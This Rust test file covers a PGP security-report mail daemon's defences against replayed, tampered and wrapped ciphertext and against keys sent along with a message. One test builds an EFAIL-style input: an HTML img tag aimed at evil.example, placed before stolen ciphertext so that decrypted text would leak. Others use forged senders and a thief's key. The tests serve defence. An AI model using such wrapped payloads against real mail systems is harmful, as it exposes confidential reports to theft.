//! Ciphertext that was stolen, changed or wrapped, and keys that were sent along.

use postern::daemon::rehearsal::Sent;
use postern::daemon::rehearsal::people::{Person, Protect, Seen, Writing};
use postern::domain::party::Audience;
use postern::pgp::seal::Signing;

use crate::house::{House, ana, crlf, encrypted_body, eve, keyed, keyless, writing};

const SECRET: &str = "the canary sits in parser.c";

/// What somebody outside can see of our answers, whatever the case is called.
fn outside(house: &House, who: &Person, sent: &[Sent]) -> Vec<(String, String, bool)> {
    let digits = |text: &str| text.chars().filter(|c| !c.is_ascii_digit()).collect::<String>();
    house.got(who, sent).iter().map(|mail| (digits(&mail.subject), digits(&mail.text), mail.encrypted)).collect()
}

fn sealed(house: &House, by: &Person, text: &str) -> String {
    house.encrypt(by, &crlf(&format!("Content-Type: text/plain; charset=utf-8\n\n{text}\n")), Signing::Unsigned)
}

/// One base64 character of the armor changed, near its end or in its first packet.
fn flipped(armor: &str, last: bool) -> String {
    let lines: Vec<&str> = armor.lines().collect();
    let full: Vec<usize> =
        (0..lines.len()).filter(|at| lines[*at].len() > 40 && !lines[*at].contains(['-', ':'])).collect();
    let at = if last { full[full.len() - 1] } else { full[1] };
    assert!(lines[at].len() > 20, "{:?}", lines[at]);
    let change = |line: &str| {
        let mut chars: Vec<char> = line.chars().collect();
        chars[10] = if chars[10] == 'A' { 'B' } else { 'A' };
        chars.into_iter().collect::<String>()
    };
    let line = |(index, line): (usize, &&str)| if index == at { change(line) } else { (*line).to_owned() };
    lines.iter().enumerate().map(|(index, text)| line((index, text)) + "\n").collect()
}

#[test]
fn c1_what_an_outsider_is_answered_never_shows_whether_we_could_read() {
    let (bo, dan) = (keyed("Bo", "bo@team.example"), keyed("Dan", "dan@other.example"));
    let mut house = House::new(&[&bo], &[], &[Audience::Reporter]);
    let good = sealed(&house, &dan, SECRET);
    let theirs = {
        // Somebody else's mail, with his name protected inside.
        let mail = house.compose(&dan, &Writing { protect: Protect::Encrypted, vouched: false, ..writing(SECRET) });
        let text = String::from_utf8(mail).expect("ascii").replace("\r\n", "\n");
        let (_, rest) = text.split_once("-----BEGIN PGP MESSAGE-----").expect("armor");
        let (armor, _) = rest.split_once("-----END PGP MESSAGE-----").expect("armor");
        format!("-----BEGIN PGP MESSAGE-----{armor}-----END PGP MESSAGE-----\n")
    };
    let old = house.encrypt(
        &dan,
        &crlf("Content-Type: text/plain; protected-headers=v1\nDate: Mon, 5 Jan 2026 10:00:00 +0000\n\nhello\n"),
        Signing::Unsigned,
    );
    let mut answers = Vec::new();
    for (what, armor) in [
        ("whole", good.clone()),
        ("changed", flipped(&good, true)),
        ("changed key packet", flipped(&good, false)),
        (
            "no message",
            "-----BEGIN PGP MESSAGE-----\n\naGVsbG8gaGVsbG8gaGVsbG8=\n-----END PGP MESSAGE-----\n".to_owned(),
        ),
        ("of somebody else", theirs),
        ("dated long ago inside", old),
        ("nested", sealed(&house, &dan, &good)),
    ] {
        let from = keyless("N", &format!("n{}@nobody.example", answers.len()));
        let sent = house.raw_part(
            &format!("From: {}\nTo: security@example.org\nSubject: x", from.address),
            &encrypted_body(&armor),
        );
        let seen = outside(&house, &from, &sent);
        let seen: Vec<_> = seen.into_iter().map(|(a, b, c)| (a, b.replace(from.address.as_str(), ""), c)).collect();
        answers.push((what, seen));
    }
    for (what, seen) in &answers {
        assert_eq!(seen.len(), 1, "{what}");
        assert_eq!(seen, &answers[0].1, "{what}");
    }
}

#[test]
fn c3_stolen_ciphertext_is_not_shown_as_the_thiefs_report() {
    let (dan, bo) = (keyed("Dan", "dan@other.example"), keyed("Bo", "bo@team.example"));
    let mut house = House::new(&[&bo], &[], &[Audience::Reporter]);
    let stolen = sealed(&house, &dan, SECRET);
    let body = encrypted_body(&stolen);
    let sent = house.raw_part("From: dan@other.example\nTo: security@example.org\nSubject: x", &body);
    assert!(house.one(&bo, &sent).text.contains(SECRET));
    // The same message in another armor.
    let packed: String = stolen
        .replace("\r\n", "\n")
        .lines()
        .filter(|line| !line.starts_with("Comment"))
        .map(|line| format!("{line}\n"))
        .collect();
    let begun = packed.replacen("-----\n", "-----\nComment: hello\n", 1);
    let sent =
        house.raw_part("From: eve@evil.example\nTo: security@example.org\nSubject: mine", &encrypted_body(&begun));
    let shown = house.one(&bo, &sent);
    assert!(!shown.text.contains(SECRET), "{}", shown.text);
    assert!(shown.attachments.iter().all(|name| name != "original.eml") || !shown.text.contains(SECRET));
}

#[test]
fn c2_a_ciphertext_within_another_mail_is_opened_for_the_team_alone_and_marked() {
    let (dan, bo) = (keyed("Dan", "dan@other.example"), keyed("Bo", "bo@team.example"));
    let mut house = House::new(&[&bo], &[], &[Audience::Reporter]);
    let stolen = sealed(&house, &dan, SECRET).replace("\r\n", "\n");
    let whole = encrypted_body(&stolen);
    let inner = whole.strip_prefix("MIME-Version: 1.0\n").expect("a version").to_owned();
    let part = |text: &str| format!("--m\n{text}\n");
    let parts = [
        format!("{}{}--m--\n", part("Content-Type: text/plain\n\nPlease answer."), part(&inner)),
        format!("{}--m--\n", part(&inner)),
        format!(
            "{}{}--m--\n",
            part("Content-Type: text/html\n\n<img src=\"http://evil.example/"),
            part(&format!("Content-Type: text/plain\n\n{stolen}"))
        ),
        format!(
            "{}{}--m--\n",
            part("Content-Type: text/plain\n\nhi"),
            part(&format!("Content-Type: message/rfc822\n\nFrom: a@b.example\n{inner}"))
        ),
        format!(
            "{}{}--m--\n",
            part("Content-Type: text/plain\n\nhi"),
            part(&format!("Content-Type: application/octet-stream; name=encrypted.asc\n\n{stolen}"))
        ),
    ];
    for parts in parts {
        for kind in ["mixed", "related", "alternative", "parallel"] {
            let part = format!("Content-Type: multipart/{kind}; boundary=m\n\n{parts}");
            let sent = house.raw_part("From: eve@evil.example\nTo: security@example.org\nSubject: x", &part);
            for mail in &sent {
                assert!(!String::from_utf8_lossy(&mail.raw).contains(SECRET));
            }
            assert!(house.got(&bo, &sent).iter().all(is_marked), "{kind}");
        }
    }
    let text = format!("Look at this:\n\n{stolen}\nBye");
    let sent = house.mail(&eve(), &writing(&text));
    assert!(house.got(&bo, &sent).iter().all(is_marked));
}

/// The secret stands, if at all, in an encrypted mail and below the line that says where it comes from.
fn is_marked(mail: &Seen) -> bool {
    let marker = mail.text.find("of unproved origin");
    let secret = mail.text.find(SECRET);
    secret.is_none() || (mail.encrypted && marker < secret && marker.is_some())
}

#[test]
fn c9_a_key_that_comes_along_replaces_none() {
    let (dan, bo) = (keyed("Dan", "dan@other.example"), keyed("Bo", "bo@team.example"));
    let thief = keyed("Dan", "dan@other.example");
    let mut house = House::new(&[&bo], &[&dan], &[Audience::Reporter]);
    let key = String::from_utf8(thief.certificate().expect("a key").to_vec()).expect("ascii").replace("\r\n", "\n");
    let data: String =
        key.lines().filter(|line| !line.contains("-----") && !line.contains(": ") && !line.is_empty()).collect();
    let part = format!(
        "Autocrypt: addr=dan@other.example; prefer-encrypt=mutual; keydata={data}\nContent-Type: multipart/mixed; boundary=b\n\n\
         --b\nContent-Type: text/plain\n\nMy new key.\n--b\nContent-Type: application/pgp-keys\n\n{key}\n--b--\n"
    );
    let sent = house.raw_part("From: dan@other.example\nTo: security@example.org\nSubject: x", &part);
    assert_eq!(house.got(&dan, &sent).len(), 1, "the acknowledgement opens with the pinned key");
    let report = house.one(&bo, &sent);
    assert!(report.text.contains(thief.fingerprint().expect("a key").as_str()), "shown as a candidate");
    let sent = house.answer(&bo, &report, "!to reporter\n\nThank you.", Protect::Sealed);
    assert!(house.one(&dan, &sent).encrypted);
}

#[test]
fn i9_nothing_of_a_conversation_that_began_encrypted_leaves_in_clear() {
    let (ana, bo) = (ana(), keyed("Bo", "bo@team.example"));
    let mut house = House::new(&[&bo], &[], &[Audience::Reporter]);
    let sent = house.raw_part(
        "From: ana@reporter.example\nTo: security@example.org\nSubject: x",
        &encrypted_body("-----BEGIN PGP MESSAGE-----\n\naGVsbG8=\n-----END PGP MESSAGE-----"),
    );
    let (report, notice) = (house.one(&bo, &sent), house.one(&ana, &sent));
    // A mail in clear, in her name, does not lower the bar.
    house.answer(&ana, &notice, "Just answer in clear.", Protect::Clear);
    let sent = house.answer(&bo, &report, "!to reporter\n\nThe secret answer.", Protect::Sealed);
    for mail in sent.iter().filter(|mail| mail.to.same_mailbox(&ana.address)) {
        assert!(!String::from_utf8_lossy(&mail.raw).contains("secret"));
    }
}
